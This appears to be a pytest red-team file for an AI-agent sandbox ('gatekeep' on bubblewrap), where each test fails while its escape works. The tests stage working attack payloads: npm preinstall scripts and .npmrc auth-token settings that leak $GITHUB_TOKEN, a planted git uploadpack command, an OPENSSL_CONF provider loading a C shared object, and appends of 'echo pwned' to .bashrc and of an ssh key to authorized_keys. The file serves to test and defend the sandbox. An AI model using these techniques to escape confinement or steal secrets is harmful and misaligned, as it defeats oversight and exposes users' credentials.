"""Red team 26: networked parts that obey files above the working directory or named by the
environment, and homes outside /home (each test fails while its attack works).

Real gatekeep CLI runs and real bubblewrap. The working directory of these tests lies in
/tmp (pytest's tmp_path), a temp dir every box writes: what the agent writes above it is
written from a box, as an agent would. The last test adds an account (as root) and removes
it again."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
root_only = pytest.mark.skipif(os.geteuid() != 0, reason="makes files in system places")
needs_npm = pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")

Sandbox = object
TOKEN = "ghp-SEKRIT-26"

_LOCK = {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
         "packages": {"": {"name": "x", "version": "1.0.0"}}}


def _project(directory: Path, manifest: dict[str, object], lock: dict[str, object]) -> None:
    (directory / "package.json").write_text(json.dumps(manifest))
    (directory / "package-lock.json").write_text(json.dumps(lock))


def _run(sandbox: Sandbox, command: str, cwd: Path, env: dict[str, str] | None = None
         ) -> subprocess.CompletedProcess[str]:
    # npm gives up at once on a registry it cannot reach (a box without the network)
    quick = {"npm_config_fetch_retries": "0", "npm_config_fetch_timeout": "3000"}
    return sandbox.gatekeep("run", "-c", command, cwd=cwd,  # type: ignore[attr-defined]
                            env={"GITHUB_TOKEN": TOKEN, **quick, **(env or {})}, timeout=120)


# -- 1. npm obeys the project above the working directory ---------------------------------------

@needs_npm
def test_npm_ci_in_a_subdirectory_runs_the_parents_install_script_with_network_and_secrets(
        sandbox: Sandbox) -> None:
    """npm's project is the nearest directory up from the working directory with a
    `package.json` (or `node_modules`). `manifests.runs_tree_code` reads `package.json` in
    the working directory only (`_dirs`: `runs_from`, the cwd); none there is "no scripts
    of the tree's", so `cd sub && npm ci` is allowed (build-and-test) with the network, and
    its box keeps every secret variable. npm runs the parent's `preinstall`: the agent's
    code, with the network and `$GITHUB_TOKEN`. The parent here is in /tmp, which every box
    writes."""
    work: Path = sandbox.work  # type: ignore[attr-defined]
    _project(work, {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "sh evil.sh"}},
             _LOCK)
    (work / "evil.sh").write_text('printf %s "$GITHUB_TOKEN" > leaked.txt\n')
    (work / "sub").mkdir()
    _run(sandbox, "npm ci", work / "sub")
    leaked = work / "leaked.txt"
    assert not (leaked.exists() and TOKEN in leaked.read_text())


@contextlib.contextmanager
def _registry() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on loopback that records each request's Authorization header (and
    answers 404), standing in for a registry of the agent's choosing."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(str(self.headers.get("Authorization")))
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


@needs_npm
@pytest.mark.parametrize("command", ["npm ci", "npm outdated"])
def test_npm_in_a_subdirectory_sends_a_secret_to_the_registry_the_parents_npmrc_names(
        sandbox: Sandbox, command: str) -> None:
    """The same walk up for npm's settings: the project's `.npmrc` is read where the
    project is. In the tree a `.npmrc` is hidden (a protected read), but the parent's is
    outside the tree and not scanned. `${GITHUB_TOKEN}` in it is expanded by npm: with
    `registry=` the agent's server and an `_authToken` for it, `npm ci` (and `npm
    outdated`, allowed with the network too) sends the secret variable to that server. No
    code of the tree runs; the config alone leaks it."""
    work: Path = sandbox.work  # type: ignore[attr-defined]
    lock = json.loads(json.dumps(_LOCK))
    lock["packages"][""]["dependencies"] = {"rt26-none": "9.9.9"}
    lock["packages"]["node_modules/rt26-none"] = {
        "version": "9.9.9", "resolved": "https://registry.npmjs.org/rt26-none/-/rt26-none-9.9.9.tgz"}
    _project(work, {"name": "x", "version": "1.0.0", "dependencies": {"rt26-none": "9.9.9"}},
             lock)
    (work / "sub").mkdir()
    with _registry() as (port, seen):
        (work / ".npmrc").write_text(f"registry=http://127.0.0.1:{port}/\n"
                                     f"//127.0.0.1:{port}/:_authToken=${{GITHUB_TOKEN}}\n")
        _run(sandbox, command, work / "sub")
    assert not any(TOKEN in header for header in seen), seen


# -- 2. git obeys a repository above the working directory -----------------------------------

_PLANT = """\
import os, subprocess
top = os.path.dirname(os.getcwd())
subprocess.run(["git", "init", "-q", top], check=True)
subprocess.run(["git", "-C", top, "config", "remote.origin.url", top], check=True)
subprocess.run(["git", "-C", top, "config", "remote.origin.uploadpack",
                "sh " + os.path.join(top, "evil.sh")], check=True)
with open(os.path.join(top, "evil.sh"), "w") as f:
    f.write('printf %s "$GITHUB_TOKEN" > "$(dirname "$0")/leaked.txt"; exit 1\\n')
"""


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_fetch_under_a_repository_the_agent_planted_in_a_temp_dir_runs_its_config(
        sandbox: Sandbox) -> None:
    """git finds its repository by walking up from the working directory. A box writes all
    of /tmp, so the tree's code can make a repository in a directory above the working
    directory (here `python3 plant.py` in `work/sub` makes `work/.git`). `created.py`
    removes settings a run made in its tree only, and `manifests._nested` looks for a
    `.git` between the directory and the working directory, never above it. The next
    `git fetch` in `work/sub` is allowed (git-local-changes) with the network and the
    secrets, and git runs the planted `remote.origin.uploadpack`: the agent's code, with
    `$GITHUB_TOKEN`. (The box keeps that `.git/config` read-only now, too late.)"""
    work: Path = sandbox.work  # type: ignore[attr-defined]
    sub = work / "sub"
    sub.mkdir()
    (sub / "plant.py").write_text(_PLANT)
    _run(sandbox, "python3 plant.py", sub)
    assert (work / ".git" / "config").exists(), "the box could not plant the repository"
    _run(sandbox, "git fetch", sub)
    leaked = work / "leaked.txt"
    assert not (leaked.exists() and TOKEN in leaked.read_text())


# -- 3. a variable that loads code into a networked program -----------------------------------

_SHARED = r"""
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void run(void) {
    const char *token = getenv("GITHUB_TOKEN");
    FILE *f = fopen("leaked.txt", "w");
    if (f) { fprintf(f, "%s", token ? token : ""); fclose(f); }
}
"""

_OPENSSL_CNF = """\
nodejs_conf = init
openssl_conf = init
[init]
providers = prov
[prov]
evil = evil_sect
[evil_sect]
module = {module}
activate = 1
"""


@needs_npm
@pytest.mark.skipif(shutil.which("cc") is None, reason="needs a C compiler")
def test_openssl_conf_loads_the_trees_shared_object_into_npm_ci_with_network_and_secrets(
        sandbox: Sandbox) -> None:
    """`OPENSSL_CONF` is no name of `environment.names` (programs.yaml:122), so an
    assignment of it does not change the verdict: `OPENSSL_CONF=o.cnf npm ci` is allowed
    (build-and-test) with the network and the secrets. node reads the `nodejs_conf`
    section of that file at start-up, and a provider `module =` in it is a shared object
    OpenSSL loads: the tree's native code in npm's process. (The agent builds the `.so`
    in a box or writes its bytes; here the test compiles it.)"""
    work: Path = sandbox.work  # type: ignore[attr-defined]
    _project(work, {"name": "x", "version": "1.0.0"}, _LOCK)
    (work / "e.c").write_text(_SHARED)
    subprocess.run(["cc", "-shared", "-fPIC", "-o", str(work / "e.so"), str(work / "e.c")],
                   check=True, capture_output=True)
    (work / "o.cnf").write_text(_OPENSSL_CNF.format(module=work / "e.so"))
    _run(sandbox, "OPENSSL_CONF=o.cnf npm ci", work)
    leaked = work / "leaked.txt"
    assert not (leaked.exists() and TOKEN in leaked.read_text())


# -- 4. a home outside /home -----------------------------------------------------------------

@root_only
@pytest.mark.skipif(shutil.which("useradd") is None, reason="needs useradd")
def test_an_accounts_home_outside_home_is_a_writable_tree(sandbox: Sandbox) -> None:
    """`_other_home` knows `/root` and the directories in `/home` (`ACCOUNT_HOMES`), not the
    account database: an account whose home is `/srv/NAME` (or `/data/home/NAME`,
    `/export/home/NAME`) has it as a writable tree and its `.ssh` as one too, unasked.
    Run as root, the agent appends to that account's `.bashrc`."""
    name = f"rt26{uuid.uuid4().hex[:8]}"
    home = Path("/srv") / name
    if os.path.lexists(home):
        pytest.skip(f"{home} exists")
    subprocess.run(["useradd", "-M", "-d", str(home), "-s", "/bin/sh", name], check=True,
                   capture_output=True)
    try:
        home.mkdir()
        rc = home / ".bashrc"
        rc.write_text("# theirs\n")
        (home / ".ssh").mkdir()
        _run(sandbox, "echo 'echo pwned' >> .bashrc", home)
        _run(sandbox, "echo ssh-ed25519 AAAA agent >> authorized_keys", home / ".ssh")
        assert "pwned" not in rc.read_text()
        assert not (home / ".ssh" / "authorized_keys").exists()
    finally:
        subprocess.run(["userdel", name], check=False, capture_output=True)
        shutil.rmtree(home, ignore_errors=True)


# -- 5. a TMPDIR in a hidden directory of the caller's own home -----------------------------

@root_only
def test_a_tmpdir_in_a_hidden_settings_dir_of_the_home_is_written_by_every_box(
        sandbox: Sandbox) -> None:
    """`plan.temp_dir` takes a TMPDIR outside /tmp when it is the caller's own, has `tmp` or
    `temp` anywhere in its last name, and is neither a home nor `in_system`; `in_system`
    leaves the caller's own home to "the other rules", which `temp_dir` does not apply. So
    `~/.config/user-tmpfiles.d` (systemd-tmpfiles --user applies its `*.conf` at every
    login: `f+`/`w` lines write any file of the home, `L+` makes links) is a temp dir every
    box writes, from any project. (Needs a TMPDIR the caller's environment sets.)"""
    home = Path("/srv") / f"rt26home-{uuid.uuid4().hex[:8]}"
    place = home / ".config" / "user-tmpfiles.d"
    place.mkdir(parents=True)
    try:
        work: Path = sandbox.work  # type: ignore[attr-defined]
        (work / "w.py").write_text(
            f"open({str(place / 'x.conf')!r}, 'w').write('f+ %h/.bashrc - - - - evil')\n")
        sandbox.gatekeep("run", "-c", "python3 w.py",  # type: ignore[attr-defined]
                         env={"HOME": str(home), "TMPDIR": str(place)})
        assert not (place / "x.conf").exists()
    finally:
        shutil.rmtree(home, ignore_errors=True)
